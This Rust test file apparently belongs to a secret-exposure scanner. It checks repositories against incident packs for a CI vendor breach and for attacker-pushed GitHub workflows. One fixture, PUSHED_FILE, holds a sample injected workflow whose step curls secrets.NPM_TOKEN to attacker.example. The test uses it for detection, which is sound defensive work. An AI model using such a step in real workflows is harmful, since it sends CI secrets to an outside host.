//! A vendor's store, and workflows that an attacker pushed.

use std::{fs, path::Path, process::Command};

use keysweep::{
    assess::{Carrier, Confidence, Report, SiteStatus, Verdict},
    cli::{Checkout, Progress, Sources},
    incident,
};

const VENDOR: &str = r#"
schema = "keysweep.pack/1"
id = "vendor-2023"
title = "A CI vendor's store"
revision = 1
revised = "2026-01-01"
summary = "Everything that was stored was taken."

[sources.report]
title = "The vendor's report"
url = "https://example.com/report"
trust = "primary"
retrieved = "2026-01-01"

[[components]]
id = "store"
kind = "vendor"
names = ["circleci"]
mode = "vendor"
payload = ["store"]
source = "report"

[[components.windows]]
kind = "exfiltrated"
from = { at = "2022-12-22", precision = "day", source = "report" }
to = { at = "2022-12-22", precision = "day", source = "report" }
"#;

const PUSHED: &str = r#"
schema = "keysweep.pack/1"
id = "pushed-2025"
title = "Workflows pushed with stolen tokens"
revision = 1
revised = "2026-01-01"
summary = "The attacker pushed a workflow that posts the secrets it names."

[sources.report]
title = "A report"
url = "https://example.com/report"
trust = "primary"
retrieved = "2026-01-01"

[[components]]
id = "workflow"
kind = "injected-workflow"
names = [".github/workflows/*_security.yml"]
mode = "account"
payload = ["K1"]
source = "report"

[[components.windows]]
kind = "served"
from = { at = "2025-09-02", precision = "day", source = "report" }
"#;

fn git(dir: &Path, date: &str, args: &[&str]) {
    let run = Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .env("GIT_AUTHOR_DATE", date)
        .env("GIT_COMMITTER_DATE", date)
        .output()
        .expect("git runs");
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
}

/// Commits: date, and files; an empty text removes the file.
fn repository(commits: &[(&str, &[(&str, &str)])]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("a folder");
    git(dir.path(), "2020-01-01T00:00:00Z", &["init", "-q", "-b", "main"]);
    for (date, files) in commits {
        for (path, text) in *files {
            let path = dir.path().join(path);
            fs::create_dir_all(path.parent().expect("has one")).expect("made");
            match text.is_empty() {
                true => fs::remove_file(path).expect("removed"),
                false => fs::write(path, text).expect("written"),
            }
        }
        git(dir.path(), date, &["add", "-A"]);
        git(dir.path(), date, &["commit", "-qm", "x"]);
    }
    dir
}

fn expose(pack: &str, dir: &Path) -> Report {
    let pack = incident::parse(pack, "test").expect("a good pack");
    let now = "2026-01-01T00:00:00Z".parse().expect("a time");
    let sources = Sources { paths: vec![dir.to_owned()], as_of: None, now };
    Checkout.expose_pack(&pack, &sources, &Progress::new(false)).expect("read").report
}

fn names(report: &Report) -> Vec<String> {
    let name =
        |e: &keysweep::assess::Exposure| format!("{} {}", e.placement.scope, e.placement.name);
    let mut names: Vec<String> = report.exposures.iter().map(name).collect();
    names.sort();
    names
}

const CIRCLE: &str = "jobs:\n  a:\n    steps: [{run: deploy $DEPLOY_KEY}]\n\
                      workflows: {w: {jobs: [{a: {context: prod}}]}}\n";

#[test]
fn everything_that_a_vendor_stored_is_exposed_used_or_not() {
    let dir = repository(&[("2022-01-01T00:00:00Z", &[(".circleci/config.yml", CIRCLE)])]);
    let report = expose(VENDOR, dir.path());
    assert_eq!(report.summary.verdict, Verdict::Exposed);
    let expected = ["context:prod *", "project *", "project DEPLOY_KEY", "project api-tokens"];
    let names = names(&report);
    for name in expected {
        assert!(names.iter().any(|found| found == name), "{name} is not in {names:?}");
    }
    assert!(report.exposures.iter().all(|e| e.carrier == Carrier::Store));
    let of = |name: &str| {
        report.exposures.iter().find(|e| e.placement.name == name).expect("listed").confidence
    };
    assert_eq!(of("DEPLOY_KEY"), Confidence::Possible);
    assert_eq!(of("checkout-key"), Confidence::Inferred);
    let matters: Vec<_> = report.coverage.iter().filter(|c| c.matters).collect();
    assert!(matters.is_empty(), "{matters:?}");
}

#[test]
fn what_was_left_in_the_store_years_before_is_exposed_too() {
    let dir = repository(&[
        ("2019-01-01T00:00:00Z", &[(".circleci/config.yml", CIRCLE)]),
        ("2020-01-01T00:00:00Z", &[(".circleci/config.yml", ""), ("README.md", "x")]),
    ]);
    assert_eq!(expose(VENDOR, dir.path()).summary.verdict, Verdict::Exposed);
}

#[test]
fn a_customer_of_later_days_is_cleared_by_date_and_another_system_is_not_found() {
    let later = repository(&[("2023-02-01T00:00:00Z", &[(".circleci/config.yml", CIRCLE)])]);
    let report = expose(VENDOR, later.path());
    assert_eq!(report.summary.verdict, Verdict::Cleared);
    assert!(report.sites.iter().all(|site| site.status == SiteStatus::Cleared));
    let other = repository(&[("2022-01-01T00:00:00Z", &[(".travis.yml", "script: make")])]);
    assert_eq!(expose(VENDOR, other.path()).summary.verdict, Verdict::NotFound);
}

const PUSHED_FILE: &str = "name: Security\non: push\njobs:\n  send:\n    runs-on: ubuntu-latest\n    \
                           steps:\n      - run: curl -d 'A=${{ secrets.NPM_TOKEN }}' \
                           https://attacker.example\n";

#[test]
fn an_injected_workflow_is_itself_the_list_of_what_was_taken() {
    let own = "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: x\n        \
               env: {OTHER: '${{ secrets.OTHER }}'}\n";
    let dir = repository(&[
        ("2025-01-01T00:00:00Z", &[(".github/workflows/ci.yml", own)]),
        ("2025-09-03T00:00:00Z", &[(".github/workflows/github_security.yml", PUSHED_FILE)]),
        ("2025-09-06T00:00:00Z", &[(".github/workflows/github_security.yml", "")]),
    ]);
    let report = expose(PUSHED, dir.path());
    assert_eq!(report.summary.verdict, Verdict::Exposed);
    assert_eq!(names(&report), ["job GITHUB_TOKEN", "unknown NPM_TOKEN"]);
}

#[test]
fn a_workflow_of_that_name_from_before_the_campaign_is_cleared() {
    let dir = repository(&[
        ("2024-01-01T00:00:00Z", &[(".github/workflows/my_security.yml", PUSHED_FILE)]),
        ("2024-02-01T00:00:00Z", &[(".github/workflows/my_security.yml", ""), ("a", "b")]),
    ]);
    let report = expose(PUSHED, dir.path());
    assert!(report.exposures.is_empty());
    assert!(!matches!(report.summary.verdict, Verdict::Exposed));
}

/// A second wave of the same name, from a source that carries less.
const SECOND_WAVE: &str = r#"
[sources.rumour]
title = "Said once"
url = "https://example.com/rumour"
trust = "weak"
retrieved = "2026-01-01"

[[components]]
id = "second"
kind = "injected-workflow"
names = [".github/workflows/*_security.yml"]
mode = "account"
payload = ["K1"]
source = "rumour"

[[components.windows]]
kind = "served"
from = { at = "2025-11-01", precision = "day", source = "rumour" }
"#;

#[test]
fn each_wave_is_judged_by_its_own_window_and_source() {
    let closed = PUSHED.replace(
        "from = { at = \"2025-09-02\", precision = \"day\", source = \"report\" }",
        "from = { at = \"2025-09-02\", precision = \"day\", source = \"report\" }\n\
         to = { at = \"2025-09-09\", precision = \"day\", source = \"report\" }",
    );
    let pack = format!("{closed}{SECOND_WAVE}");
    let of = |date: &str| {
        let dir = repository(&[(date, &[(".github/workflows/a_security.yml", PUSHED_FILE)])]);
        let report = expose(&pack, dir.path());
        report.exposures.iter().map(|e| e.confidence).max()
    };
    assert_eq!(of("2025-09-03T00:00:00Z"), Some(Confidence::Inferred));
    assert_eq!(of("2025-11-03T00:00:00Z"), Some(Confidence::Possible));
}
